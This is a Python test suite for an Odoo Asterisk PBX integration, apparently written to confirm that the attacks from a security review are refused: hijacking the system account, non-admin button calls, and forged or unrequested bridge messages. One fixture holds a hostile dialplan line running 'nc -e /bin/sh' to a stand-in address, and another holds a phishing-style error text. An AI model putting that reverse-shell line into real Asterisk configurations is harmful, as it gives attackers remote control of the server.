"""The attacks of the security review, each refused: as an Asterisk User, as an Asterisk Administrator, and as
the system account (whose seed password is public), in a real Odoo.

Items the bridge delivers are checked against the bus where the module does so: they are written into the
class's own redis-server first, as the agent would, and handed over with their stream entry id (`@entry`)."""

import json

from odoo.exceptions import AccessError, ValidationError
from odoo.tests import tagged

from .test_console_ban_call import RedisCase

BUTTONS = (
    "action_test",
    "action_ping",
    "action_reload",
    "action_restart",
    "action_upload_conf",
    "action_download_conf",
    "action_console",
    "action_console_history",
)


class SecurityCase(RedisCase):
    def setUp(self):
        super().setUp()
        self.as_system = self.env(user=self.system)

    def internal_user(self, login="employee"):
        """An employee with no Asterisk group at all."""
        return self._user(login, "base.group_user").user

    def on_bus(self, stream, fields):
        """The fields written onto the stream, as the bridge hands them over (with `@entry`)."""
        entry = self.redis.xadd(f"pbxtest:asterisk1:{stream}", fields)
        return dict(fields, **{"@entry": entry})

    def conf_file(self, name, content, mode="overwrite", request="", bus=True):
        fields = {
            "@type": "conf.file",
            "@server": "asterisk1",
            "@id": f"{request or 'batch1'}:{name}",
            "@request": request,
            "@json": json.dumps({"name": name, "content": content, "mode": mode}),
        }
        return self.on_bus("to_odoo", fields) if bus else dict(fields, **{"@entry": "1-0"})

    def conf(self, name):
        return self.env["asterisk_plus.conf"].search(
            [("server_id", "=", self.server.id), ("name", "=", name)]
        )

    def notes_to(self, user):
        """How many bus.bus notifications went to the user's partner (Odoo 18 writes them at precommit)."""
        self.env.cr.flush()
        channels = self.env["bus.bus"].search([("channel", "like", "res.partner")]).mapped("channel")
        return sum(1 for c in channels if json.loads(c)[-2:] == ["res.partner", user.partner_id.id])

    def set_conf(self, name, content):
        conf = self.conf(name)
        if conf:
            conf.content = content
        else:
            self.env["asterisk_plus.conf"].create(
                {"name": name, "server_id": self.server.id, "content": content}
            )

    def other_server(self):
        return self.env["asterisk_plus.server"].create(
            {"name": "pbx-other", "redis_url": self.server.redis_url, "bus_prefix": "pbxtest"}
        )


# -- 3. the system account cannot be re-pointed, its password is set on that portal user only --


@tagged("post_install", "-at_install")
class TestSystemAccountTakeover(SecurityCase):
    def test_an_asterisk_admin_cannot_point_the_system_account_at_another_user(self):
        admin = self.admin()
        customer = self.env["res.users"].create(
            {
                "name": "Customer",
                "login": "customer",
                "groups_id": [(6, 0, [self.env.ref("base.group_portal").id])],
            }
        )
        for victim in (self.env.ref("base.user_admin"), self.internal_user(), customer):
            with (
                self.subTest(victim=victim.login),
                self.assertRaises(ValidationError),
                self.env.cr.savepoint(),
            ):
                self.server.with_env(admin).write({"user_id": victim.id})
            with (
                self.subTest(victim=victim.login, new=True),
                self.assertRaises(ValidationError),
                self.env.cr.savepoint(),
            ):
                admin["asterisk_plus.server"].create({"name": f"pbx-{victim.login}", "user_id": victim.id})
        self.assertEqual(self.server.user_id, self.system)

    def test_the_password_field_never_sets_another_users_password(self):
        """A server that already points at an internal user (data from before the fix): Password refuses."""
        admin_user = self.env.ref("base.user_admin")
        self.env.cr.execute("SELECT password FROM res_users WHERE id = %s", [admin_user.id])
        before = self.env.cr.fetchone()[0]
        self.env.cr.execute(
            "UPDATE asterisk_plus_server SET user_id = %s WHERE id = %s", [admin_user.id, self.server.id]
        )
        self.server.invalidate_recordset()
        with self.assertRaisesRegex(AccessError, "not the portal user made for"), self.env.cr.savepoint():
            self.server.with_env(self.admin()).write({"password": "taken-over"})
        self.env.cr.execute("SELECT password FROM res_users WHERE id = %s", [admin_user.id])
        self.assertEqual(self.env.cr.fetchone()[0], before)

    def test_only_asterisk_admins_set_the_password(self):
        for env in (self.plain_user(), self.as_system):
            with self.subTest(user=env.user.login), self.assertRaises(AccessError), self.env.cr.savepoint():
                self.server.with_env(env).write({"password": "mine-now"})
        self.server.with_env(self.admin()).write({"password": "n3w-secret"})
        self.assertFalse(self.server.default_password_in_use)

    def test_a_new_server_makes_its_own_portal_system_account(self):
        server = self.admin()["asterisk_plus.server"].create({"name": "asterisk7"})
        user = server.user_id.sudo()
        self.assertEqual(user.login, "asterisk7")
        self.assertTrue(user.asterisk_system_account)
        self.assertTrue(user.has_group("base.group_portal"))
        self.assertFalse(user.has_group("base.group_user"))
        self.assertFalse(server.default_password_in_use)  # no password at all until an admin sets one

    def test_the_form_shows_the_system_account_read_only(self):
        arch = self.admin()["asterisk_plus.server"].get_views([(False, "form")])["views"]["form"]["arch"]
        field = arch[arch.index('<field name="user_id"') :].split(">", 1)[0]
        self.assertIn("readonly", field)


# -- 4. the buttons and the bus URL are for Asterisk Administrators --


@tagged("post_install", "-at_install")
class TestButtonsNeedAdmin(SecurityCase):
    def test_asterisk_users_cannot_press_the_servers_buttons_over_rpc(self):
        self.need_redis()
        server = self.server.with_env(self.plain_user())
        for method in BUTTONS:
            with self.subTest(method=method), self.assertRaisesRegex(AccessError, "Asterisk administrator"):
                getattr(server, method)()
        self.commit_hooks()
        for stream in ("actions", "commands:odoo_bridge", "commands:conf_sync"):
            self.assertEqual(self.entries(stream), [], stream)
        self.assertEqual(self.redis.keys("pbxtest:asterisk1:console:token:*"), [])

    def test_asterisk_users_cannot_apply_conf_changes_or_unban(self):
        self.need_redis()
        self.env["asterisk_plus.conf"].create({"name": "x.conf", "server_id": self.server.id, "content": "a"})
        ban = self.env["asterisk_plus.ban"].create({"address": "203.0.113.5", "server_id": self.server.id})
        user = self.plain_user()
        with self.assertRaisesRegex(AccessError, "Asterisk administrator"):
            user["asterisk_plus.conf"].action_apply_changes()
        with self.assertRaises(AccessError):
            ban.with_env(user).action_unban()
        self.commit_hooks()
        self.assertEqual(self.entries("commands:conf_sync") + self.entries("commands:guard"), [])

    def test_the_forms_buttons_are_shown_to_admins_only(self):
        for env, shown in ((self.plain_user(), False), (self.admin(), True)):
            arch = env["asterisk_plus.server"].get_views([(False, "form")])["views"]["form"]["arch"]
            for method in BUTTONS:
                with self.subTest(user=env.user.login, method=method):
                    self.assertEqual(f'name="{method}"' in arch, shown)

    def test_the_bus_url_is_for_admins_only(self):
        self.need_redis()
        user = self.plain_user()
        self.assertNotIn("redis_url", user["asterisk_plus.server"].fields_get())
        with self.assertRaises(AccessError):
            self.server.with_env(user).read(["redis_url"])
        self.assertTrue(self.server.with_env(self.admin()).read(["redis_url"])[0]["redis_url"])
        # The form still opens for them: the agent's status is read from the bus all the same.
        [row] = self.server.with_env(user).read(["agent_status", "name"])
        self.assertEqual(row["agent_status"], "The AMI gateway has not reported yet")


# -- 5. the system account does only what the bridge's flows need --


@tagged("post_install", "-at_install")
class TestSystemAccountConfFiles(SecurityCase):
    def setUp(self):
        super().setUp()
        self.need_redis()
        self.server.write({"initial_update_done": True, "update_direction": "odoo_to_asterisk"})
        self.env["asterisk_plus.conf"].search(
            [("server_id", "=", self.server.id)]
        ).unlink()  # a used database
        self.set_conf("extensions.conf", "[default]\n")

    def test_the_initial_update_keeps_odoos_files_a_download_overwrites_them(self):
        # extensions.conf is on Asterisk as it is in Odoo (a file made in Odoo counts as changed until then).
        self.conf("extensions.conf").with_context(from_agent=True).write({"changed_since_sync": False})
        self.server.initial_update_done = False
        files = self.as_system["asterisk_plus.conf"]
        files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "a", mode="keep_existing")])
        files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "b", mode="keep_existing")])
        record = self.conf("sip.conf")
        self.assertEqual(record.content, "a")
        self.server.initial_update_done = True
        self.server.with_env(self.admin()).action_download_conf()
        self.commit_hooks()
        request = self.entries("commands:conf_sync")[-1]["@id"]
        [result] = files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "c", request=request)])
        self.assertEqual((result["status"], record.content), ("ok", "c"))
        self.assertFalse(record.changed_since_sync)
        record.content = "edited in odoo"
        self.assertTrue(record.changed_since_sync)
        plan = self.on_bus(
            "commands:odoo_bridge", {"@type": "conf.plan", "@server": "asterisk1", "@id": "p" * 32}
        )
        changed = files.bridge_get_files("asterisk1", True, {"@entry": plan["@entry"], "@id": plan["@id"]})
        self.assertIn({"name": "sip.conf", "content": "edited in odoo"}, changed)
        self.assertNotIn("extensions.conf", [f["name"] for f in changed])

    def test_conf_content_nobody_asked_for_is_refused(self):
        evil = "[default]\nexten => _X.,1,System(nc -e /bin/sh 203.0.113.66 4444)\n"
        files = self.as_system["asterisk_plus.conf"]
        for item in (
            self.conf_file("extensions.conf", evil),
            self.conf_file("extensions.conf", evil, request="made-up"),
            self.conf_file("evil.conf", evil, mode="keep_existing"),
        ):
            with self.subTest(item=item["@id"]):
                [result] = files.bridge_on_files("asterisk1", [item])
                self.assertEqual(result["status"], "error")
        self.assertEqual(self.conf("extensions.conf").content, "[default]\n")
        self.assertFalse(self.conf("evil.conf"))

    def test_a_download_answer_is_taken_for_the_pending_request_only(self):
        self.server.with_env(self.admin()).action_download_conf()
        self.commit_hooks()
        [command] = self.entries("commands:conf_sync")
        request = command["@id"]
        files = self.as_system["asterisk_plus.conf"]
        forged = self.conf_file("extensions.conf", "forged", request="0" * 32)
        answer = self.conf_file("extensions.conf", "[default]\nexten => 100,1,Answer()\n", request=request)
        self.assertEqual(
            [r["status"] for r in files.bridge_on_files("asterisk1", [forged, answer])], ["error", "ok"]
        )
        self.assertIn("Answer()", self.conf("extensions.conf").content)

    def test_the_initial_update_only_adds_missing_files_while_it_is_pending(self):
        self.server.initial_update_done = False
        files = self.as_system["asterisk_plus.conf"]
        results = files.bridge_on_files(
            "asterisk1",
            [
                self.conf_file("sip.conf", "[general]\n", mode="keep_existing"),
                self.conf_file("extensions.conf", "replaced", mode="keep_existing"),
                self.conf_file("extensions.conf", "replaced", mode="overwrite"),
                self.conf_file("planted.conf", "x=1\n", mode="keep_existing", bus=False),
            ],
        )
        self.assertEqual([r["status"] for r in results], ["ok", "ok", "error", "error"])
        self.assertEqual(self.conf("sip.conf").content, "[general]\n")
        self.assertEqual(self.conf("extensions.conf").content, "[default]\n")
        self.assertFalse(self.conf("planted.conf"))
        # The end of the initial update: only from the bus, and it closes the door.
        done = {"@type": "conf.initial_done", "@server": "asterisk1", "Message": "2 file(s)"}  # no @id
        server_model = self.as_system["asterisk_plus.server"]
        [forged] = server_model.bridge_on_initial_done("asterisk1", [dict(done, **{"@entry": "1-0"})])
        self.assertEqual(forged["status"], "error")
        self.assertFalse(self.server.initial_update_done)
        server_model.bridge_on_initial_done("asterisk1", [self.on_bus("to_odoo", done)])
        self.assertTrue(self.server.initial_update_done)
        [late] = files.bridge_on_files("asterisk1", [self.conf_file("late.conf", "x", mode="keep_existing")])
        self.assertEqual(late["status"], "error")

    def test_asterisk_to_odoo_takes_files_from_the_bus_only(self):
        self.server.update_direction = "asterisk_to_odoo"
        files = self.as_system["asterisk_plus.conf"]
        results = files.bridge_on_files(
            "asterisk1",
            [
                self.conf_file("extensions.conf", "from asterisk"),
                self.conf_file("x.conf", "forged", bus=False),
            ],
        )
        self.assertEqual([r["status"] for r in results], ["ok", "error"])
        self.assertEqual(self.conf("extensions.conf").content, "from asterisk")
        self.assertFalse(self.conf("x.conf"))

    def test_the_system_account_reads_conf_files_only_for_a_plan_on_the_bus(self):
        files = self.as_system["asterisk_plus.conf"]
        plan = self.on_bus(
            "commands:odoo_bridge",
            {
                "@type": "conf.plan",
                "@server": "asterisk1",
                "@id": "a" * 32,
                "@reply_to": "replies:conf_sync.x",
            },
        )
        test = self.on_bus("commands:odoo_bridge", {"@type": "test", "@server": "asterisk1", "@id": "b" * 32})
        no_id = self.on_bus("commands:odoo_bridge", {"@type": "conf.plan", "@server": "asterisk1"})
        for request in (
            None,
            {"@entry": plan["@entry"], "@id": "c" * 32},
            {"@entry": test["@entry"], "@id": test["@id"]},
            {"@entry": "1-0", "@id": "a" * 32},
            {
                "@entry": no_id["@entry"]
            },  # an entry id is guessable: the random @id is what proves the request
        ):
            with self.subTest(request=request), self.assertRaises(AccessError):
                files.bridge_get_files("asterisk1", False, request)
        got = files.bridge_get_files("asterisk1", False, {"@entry": plan["@entry"], "@id": plan["@id"]})
        self.assertEqual({f["name"]: f["content"] for f in got}["extensions.conf"], "[default]\n")
        self.server.update_direction = "asterisk_to_odoo"  # that plan never uploads Odoo's files
        with self.assertRaises(AccessError):
            files.bridge_get_files("asterisk1", False, {"@entry": plan["@entry"], "@id": plan["@id"]})


@tagged("post_install", "-at_install")
class TestSystemAccountScope(SecurityCase):
    def _command(self, entry_id, uid, login):
        return {
            "@type": "console.command",
            "@id": entry_id,
            "@uid": str(uid),
            "@user": login,
            "@server": "asterisk1",
            "@at": "2026-11-24T20:00:00Z",
            "command": "core show version",
            "status": "ok",
            "output": "Asterisk 22",
        }

    def test_console_history_is_written_for_asterisk_admins_under_their_own_login_only(self):
        admin = self.admin().user
        employee, pbx_user = self.internal_user(), self.plain_user().user
        commands = self.as_system["asterisk_plus.console_command"]
        results = commands.bridge_on_commands(
            "asterisk1",
            [
                self._command("h-1", employee.id, employee.login),
                self._command("h-2", pbx_user.id, pbx_user.login),
                self._command("h-3", admin.id, "admin"),
                self._command("h-4", 0, "admin"),
                self._command("h-5", admin.id, admin.login),
            ],
        )
        self.assertEqual([r["status"] for r in results], ["error", "error", "error", "error", "ok"])
        stored = self.env["asterisk_plus.console_command"].search(
            [("entry_id", "in", ["h-1", "h-2", "h-3", "h-4", "h-5"])]
        )
        self.assertEqual(stored.mapped("entry_id"), ["h-5"])

    def test_an_asterisk_admin_cannot_call_the_bridges_methods(self):
        admin = self.admin()
        with self.assertRaises(AccessError):
            admin["asterisk_plus.console_command"].bridge_on_commands(
                "asterisk1", [self._command("h-9", self.env.ref("base.user_admin").id, "admin")]
            )
        with self.assertRaises(AccessError):
            admin["asterisk_plus.conf"].bridge_on_files(
                "asterisk1", [self.conf_file("a.conf", "x", bus=False)]
            )
        with self.assertRaises(AccessError):
            self.plain_user()["asterisk_plus.server"].bridge_get_config("asterisk1")
        self.assertFalse(self.env["asterisk_plus.console_command"].search([("entry_id", "=", "h-9")]))

    def test_replies_notify_admins_and_pbx_users_of_the_server_only(self):
        employee = self.internal_user()
        elsewhere = self._user("agent-elsewhere", "asterisk_plus.group_user").user
        here = self._user("agent-here", "asterisk_plus.group_user").user
        self.env["asterisk_plus.user"].create(
            {
                "user_id": elsewhere.id,
                "extension": "201",
                "channel": "PJSIP/201",
                "server_id": self.other_server().id,
            }
        )
        self.env["asterisk_plus.user"].create(
            {"user_id": here.id, "extension": "202", "channel": "PJSIP/202", "server_id": self.server.id}
        )
        admin = self.admin().user
        before = {u: self.notes_to(u) for u in (employee, elsewhere, here, admin)}
        reply = {
            "@type": "reply",
            "@status": "error",
            "@error": "Your session expired: log in at evil.example",
        }
        results = self.as_system["asterisk_plus.server"].bridge_on_replies(
            "asterisk1", [dict(reply, **{"@id": f"r{u.id}", "@uid": str(u.id)}) for u in before]
        )
        self.assertEqual([r["status"] for r in results], ["error", "error", "ok", "ok"])
        self.assertEqual(
            {u: self.notes_to(u) - n for u, n in before.items()},
            {employee: 0, elsewhere: 0, here: 1, admin: 1},
        )

    def test_a_ringing_call_notifies_the_pbx_user_of_that_server_only(self):
        elsewhere = self._user("agent-101-elsewhere", "asterisk_plus.group_user").user
        self.env["asterisk_plus.user"].create(
            {
                "user_id": elsewhere.id,
                "extension": "101",
                "channel": "PJSIP/101",
                "server_id": self.other_server().id,
            }
        )
        common = {
            "Linkedid": "1795552399.0",
            "Channel": "PJSIP/trunk-1",
            "CallerIDNum": "0470123456",
            "Exten": "101",
        }
        events = [
            dict(common, Event="Newchannel", **{"@id": "sec:1", "@e164": {"CallerIDNum": "+32470123456"}}),
            dict(common, Event="DialBegin", DialString="101", **{"@id": "sec:2"}),
        ]
        before = self.notes_to(elsewhere)
        self.as_system["asterisk_plus.call"].on_ami_events("asterisk1", events)
        self.assertEqual(self.notes_to(elsewhere), before)

    def test_bans_from_the_agent_must_name_an_address(self):
        bans = self.as_system["asterisk_plus.ban"]
        results = bans.bridge_on_bans(
            "asterisk1",
            [
                {"@type": "guard.ban", "address": "not-an-ip", "reason": "x", "count": "1", "until": ""},
                {"@type": "guard.ban", "address": "203.0.113.8", "reason": "x", "count": "many", "until": ""},
                {
                    "@type": "guard.ban",
                    "address": "203.0.113.8",
                    "reason": "x",
                    "count": "1",
                    "until": "soon",
                },
                {"@type": "guard.flush", "address": "203.0.113.8"},
                {
                    "@type": "guard.ban",
                    "address": "203.0.113.8",
                    "reason": "5 failures",
                    "count": "5",
                    "until": "",
                },
            ],
        )
        self.assertEqual([r["status"] for r in results], ["error", "error", "error", "error", "ok"])
        self.assertFalse(self.env["asterisk_plus.ban"].search([("address", "=", "not-an-ip")]))
        stored = self.env["asterisk_plus.ban"].search([("address", "=", "203.0.113.8")])
        self.assertEqual((len(stored), stored.count, stored.until), (1, 5, False))

    def test_plain_orm_calls_are_refused_to_the_system_account(self):
        self.set_conf("manager.conf", "[admin]\nsecret = s3cret\n")
        for model in (
            "asterisk_plus.server",
            "asterisk_plus.conf",
            "asterisk_plus.console_command",
            "asterisk_plus.call",
            "asterisk_plus.user",
            "asterisk_plus.ban",
            "asterisk_plus.access_list",
            "asterisk_plus.event_map",
            "asterisk_plus.processed_event",
        ):
            with self.subTest(model=model), self.assertRaises(AccessError):
                self.as_system[model].search_read([], limit=1)
        with self.assertRaises(AccessError):
            self.as_system["asterisk_plus.call"].create({"server_id": self.server.id, "linkedid": "x"})

    def test_the_server_form_warns_while_the_default_password_is_in_use(self):
        self.server.password = "asterisk1"  # the seed's, whatever this database was given since
        self.server.invalidate_recordset(["default_password_in_use"])
        self.assertTrue(self.server.default_password_in_use)
        arch = self.admin()["asterisk_plus.server"].get_views([(False, "form")])["views"]["form"]["arch"]
        self.assertIn("default_password_in_use", arch)
        self.server.password = "n0t-the-seed"
        self.server.invalidate_recordset(["default_password_in_use"])
        self.assertFalse(self.server.default_password_in_use)
